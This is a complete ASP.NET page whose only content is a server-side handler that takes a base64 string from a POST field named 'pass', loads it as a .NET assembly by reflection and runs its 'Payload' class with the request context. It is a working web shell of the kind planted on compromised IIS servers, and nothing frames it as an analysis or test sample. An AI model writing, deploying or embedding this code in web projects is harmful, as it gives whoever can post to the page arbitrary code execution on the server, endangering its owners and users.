<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e)
{
    string data = Request.Form["pass"];
    if (data == null) return;
    byte[] raw = Convert.FromBase64String(data);
    object o = System.Reflection.Assembly.Load(raw).CreateInstance("Payload");
    o.GetType().GetMethod("Run").Invoke(o, new object[] { Context });
}
</script>
